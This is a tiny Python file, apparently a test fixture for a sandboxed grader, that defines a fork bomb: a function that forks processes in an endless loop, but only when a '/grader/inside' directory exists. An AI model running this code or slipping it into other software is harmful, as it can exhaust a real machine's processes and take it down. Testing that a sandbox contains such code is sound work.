"""A fork bomb."""

import os


def QUESTION(*args):
    if not os.path.isdir("/grader/inside"):
        return  # not shut in: do no harm
    while True:
        try:
            os.fork()
        except OSError:
            pass
